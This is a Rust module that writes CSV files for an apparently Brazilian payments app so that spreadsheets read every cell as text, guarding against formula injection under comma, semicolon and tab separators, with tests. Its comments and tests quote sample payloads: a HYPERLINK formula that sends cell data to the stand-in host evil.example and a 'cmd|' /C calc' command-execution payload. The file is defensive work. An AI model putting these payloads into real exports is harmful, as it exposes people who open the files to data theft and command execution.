//! CSV cells that a spreadsheet reads as text, never as a formula, whichever
//! separator it splits the file on.
//!
//! Excel, LibreOffice and Google Sheets run a cell that begins with `=`,
//! `+`, `-` or `@` as a formula (a tab or carriage return first is stripped,
//! and what follows may begin with one), so a wallet named
//! `=HYPERLINK("http://evil.example/?"&A1,"Click")`, or a payer's name from a
//! deposit, would act when the export is opened. Such a cell is written with
//! a leading apostrophe, the spreadsheets' own mark for "this is text"
//! (OWASP's advice for CSV injection). A cell that is a plain decimal number,
//! as the app writes amounts (`-12.50`), is left as it is: a spreadsheet
//! reads it as a number, and a number cannot act.
//!
//! The files are written with commas, but a spreadsheet in Portuguese (any
//! language whose decimal mark is a comma) splits a `.csv` on semicolons,
//! and a tab-separated import on tabs. There the file's quotes do not keep a
//! cell whole: a quote that does not open a piece is read as a letter, so
//! `…,"PIX from =2+2;=3+3"` becomes a piece `=3+3"`. So:
//! - a cell holding a comma, a semicolon, a tab, a quote or a line break is
//!   quoted (a reader with the file's own separator reads it whole);
//! - every place where a piece can begin under any of those separators (the
//!   cell's start, and right after each comma, semicolon, tab or line break
//!   in it) is marked with `'` when what follows, past any quotes and
//!   spaces, would start a formula. The marks go in before the cell is
//!   quoted, so they are part of the text every reader sees;
//! - a record's first cell is marked even when it is a negative number: under
//!   another separator its piece runs on into the next cells (`-1,5+cmd|…`).
//!   No file the app writes begins a row with an amount, so nothing changes
//!   for them today.

use std::borrow::Cow;
use std::io::Write;

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Where a spreadsheet may end one cell and begin the next: the comma, the
/// semicolon (the separator where the decimal mark is a comma), the tab, and
/// the line breaks.
const CELL_BREAKS: [char; 5] = [',', ';', '\t', '\r', '\n'];

/// What a piece may begin with before its first letter without changing
/// what the letter does: a quote (an importer strips it) and spaces.
const PIECE_PADDING: [char; 2] = ['"', ' '];

/// `cell` as a spreadsheet will read it as text, under any separator: a `'`
/// wherever a piece of it would otherwise start a formula, unchanged when it
/// is a plain number.
pub fn guarded(cell: &str) -> Cow<'_, str> {
    if is_plain_number(cell) {
        return Cow::Borrowed(cell);
    }
    marked(cell)
}

/// `cell` with a `'` at each place a piece can begin (its start, after each
/// of [`CELL_BREAKS`]) where the piece would start a formula.
fn marked(cell: &str) -> Cow<'_, str> {
    let starts_formula = |rest: &str| {
        rest.trim_start_matches(PIECE_PADDING)
            .starts_with(FORMULA_STARTS)
    };
    let piece_starts = std::iter::once(0).chain(
        cell.char_indices()
            .filter(|(_, c)| CELL_BREAKS.contains(c))
            .map(|(at, c)| at + c.len_utf8()),
    );
    let marks: Vec<usize> = piece_starts
        .filter(|&at| starts_formula(&cell[at..]))
        .collect();
    if marks.is_empty() {
        return Cow::Borrowed(cell);
    }
    let mut text = String::with_capacity(cell.len() + marks.len());
    let mut copied = 0;
    for at in marks {
        text.push_str(&cell[copied..at]);
        text.push('\'');
        copied = at;
    }
    text.push_str(&cell[copied..]);
    Cow::Owned(text)
}

/// `cell` as written in the file: in quotes, its own quotes doubled, when it
/// holds a separator of any spreadsheet, a quote or a line break.
fn quoted(cell: &str) -> Cow<'_, str> {
    if !cell.contains(|c| c == '"' || CELL_BREAKS.contains(&c)) {
        return Cow::Borrowed(cell);
    }
    Cow::Owned(format!("\"{}\"", cell.replace('"', "\"\"")))
}

/// `-12.50`, `0`, `3.000000000000000001`: an optional minus, digits, and at
/// most one decimal point between digits. Nothing else (no exponent, no sign
/// `+`, no spaces), so nothing a formula could hide in.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or_default();
    let all_digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && parts.next().is_none_or(all_digits)
}

/// The CSV writer of every file the app and the command line make (the
/// lists, the extrato, the tax year's files, the payouts' result file):
/// commas between cells, every cell [`guarded`] and quoted where any
/// spreadsheet's separator could split it.
#[derive(Debug)]
pub struct Writer<W: Write>(csv::Writer<W>);

impl<W: Write> Writer<W> {
    /// A writer of comma-separated records into `out`.
    pub fn from_writer(out: W) -> Writer<W> {
        // The csv crate quotes only around its own separator; which cells
        // are quoted is decided here, for every separator, so it writes the
        // cells as they are given.
        Writer(
            csv::WriterBuilder::new()
                .quote_style(csv::QuoteStyle::Never)
                .from_writer(out),
        )
    }

    /// Writes one record, each cell [`guarded`] and quoted as needed.
    pub fn write_record<I, T>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        let mut cells = cells.into_iter().peekable();
        let mut written = Vec::new();
        if let Some(first) = cells.next() {
            // The line's first cell begins a piece under every separator,
            // and that piece runs on into the next cells: a number too.
            let first = marked(first.as_ref());
            let only_cell = cells.peek().is_none();
            written.push(if only_cell && first.is_empty() {
                // A lone empty cell would be an empty line, which readers skip.
                "\"\"".to_owned()
            } else {
                quoted(&first).into_owned()
            });
        }
        written.extend(cells.map(|cell| quoted(&guarded(cell.as_ref())).into_owned()));
        self.0.write_record(&written)
    }

    /// Writes out what is buffered.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.0.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_would_start_a_formula_is_marked_as_text() {
        for cell in [
            r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#,
            "+1+1",
            "-1+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "-",
            "-12.50e3",
            "--1",
            "-.5",
        ] {
            assert_eq!(guarded(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn every_piece_another_separator_would_cut_is_marked_too() {
        assert_eq!(guarded("PIX from =2+2;=3+3"), "PIX from =2+2;'=3+3");
        assert_eq!(guarded("=2+2;=3+3"), "'=2+2;'=3+3");
        assert_eq!(guarded("x;\"=1+1"), "x;'\"=1+1");
        assert_eq!(guarded("a, -1+1\n@SUM(A1)"), "a,' -1+1\n'@SUM(A1)");
        assert_eq!(guarded("\t=1+1"), "'\t'=1+1");
        assert_eq!(guarded("\r=1+1"), "'\r'=1+1");
        assert_eq!(guarded("a;b,c\td"), "a;b,c\td");
    }

    /// What `cells` become in a file of one record.
    fn written(cells: &[&str]) -> String {
        let mut bytes = Vec::new();
        let mut writer = Writer::from_writer(&mut bytes);
        writer.write_record(cells).unwrap();
        writer.flush().unwrap();
        drop(writer);
        String::from_utf8(bytes).unwrap()
    }

    #[test]
    fn a_cell_holding_any_separator_a_quote_or_a_break_is_quoted() {
        assert_eq!(
            written(&["1", "x;=1+1", "a\tb", "say \"hi\"", "two\nlines", "plain"]),
            "1,\"x;'=1+1\",\"a\tb\",\"say \"\"hi\"\"\",\"two\nlines\",plain\n"
        );
        // A line's first cell is marked even as a number: under `;` its
        // piece would run on into the next cells.
        assert_eq!(written(&["-12.50", "5+cmd"]), "'-12.50,5+cmd\n");
        assert_eq!(written(&["", "-12.50"]), ",-12.50\n");
        assert_eq!(written(&[""]), "\"\"\n");
    }

    /// The records of `bytes` as a spreadsheet splitting on `separator`
    /// reads them (quotes opening a piece honoured, any other taken as a
    /// letter).
    fn pieces(bytes: &[u8], separator: u8) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .delimiter(separator)
            .has_headers(false)
            .flexible(true)
            .from_reader(bytes)
            .byte_records()
            .map(|record| {
                record
                    .unwrap()
                    .iter()
                    .map(|piece| String::from_utf8_lossy(piece).into_owned())
                    .collect()
            })
            .collect()
    }

    fn starts_a_formula(piece: &str) -> bool {
        let lead = piece.trim_start_matches(PIECE_PADDING);
        lead.starts_with(FORMULA_STARTS) && !is_plain_number(lead)
    }

    #[test]
    fn a_payer_with_a_semicolon_opens_as_text_under_either_separator() {
        let mut bytes = Vec::new();
        let mut writer = Writer::from_writer(&mut bytes);
        writer
            .write_record([
                "2026-03-01T10:00:00-03:00",
                "deposit",
                "-12.50",
                "PIX from =2+2;=3+3",
            ])
            .unwrap();
        writer
            .write_record(["7", "pix", "x;=1+1", "a;-1+cmd|' /C calc'!A0"])
            .unwrap();
        writer.flush().unwrap();
        drop(writer);
        let by_comma = pieces(&bytes, b',');
        assert_eq!(by_comma[0][3], "PIX from =2+2;'=3+3");
        assert_eq!(by_comma[0][2], "-12.50", "an amount stays a number");
        assert_eq!(by_comma[1][2], "x;'=1+1");
        for separator in [b';', b'\t'] {
            for piece in pieces(&bytes, separator).iter().flatten() {
                assert!(
                    !starts_a_formula(piece),
                    "{piece:?} ({})",
                    separator as char
                );
            }
        }
    }

    proptest::proptest! {
        #[test]
        fn any_cells_read_back_whole_by_comma_and_inert_by_any_separator(
            records in proptest::collection::vec(
                proptest::array::uniform3("[=+@;,\t\r\n\" 'a1.-]{0,10}"),
                1..4,
            ),
        ) {
            let mut bytes = Vec::new();
            let mut writer = Writer::from_writer(&mut bytes);
            for record in &records {
                writer.write_record(record).unwrap();
            }
            writer.flush().unwrap();
            drop(writer);
            let read = pieces(&bytes, b',');
            proptest::prop_assert_eq!(read.len(), records.len());
            for (record, read) in records.iter().zip(&read) {
                let expected: Vec<String> = record
                    .iter()
                    .enumerate()
                    .map(|(index, cell)| match index {
                        0 => marked(cell).into_owned(),
                        _ => guarded(cell).into_owned(),
                    })
                    .collect();
                proptest::prop_assert_eq!(read, &expected);
            }
            for separator in [b';', b'\t', b','] {
                for piece in pieces(&bytes, separator).iter().flatten() {
                    proptest::prop_assert!(
                        !starts_a_formula(piece),
                        "{:?} under {:?} in {:?}", piece, separator as char,
                        String::from_utf8_lossy(&bytes)
                    );
                }
            }
        }
    }

    #[test]
    fn the_writer_guards_every_cell_and_quotes_as_csv_does() {
        let mut bytes = Vec::new();
        let mut writer = Writer::from_writer(&mut bytes);
        writer.write_record(["name", "amount"]).unwrap();
        writer
            .write_record([r#"=HYPERLINK("http://evil.example/")"#, "-12.50"])
            .unwrap();
        writer.flush().unwrap();
        drop(writer);
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "name,amount\n\"'=HYPERLINK(\"\"http://evil.example/\"\")\",-12.50\n"
        );
    }

    #[test]
    fn numbers_and_ordinary_text_are_kept() {
        for cell in [
            "-12.50",
            "12.50",
            "-0.000000000000000001",
            "0",
            "Conta corrente",
            "fiat/brl",
            "2025-03-01T12:00:00-03:00",
            "",
            "a=b",
        ] {
            assert_eq!(guarded(cell), cell, "{cell:?}");
        }
    }
}
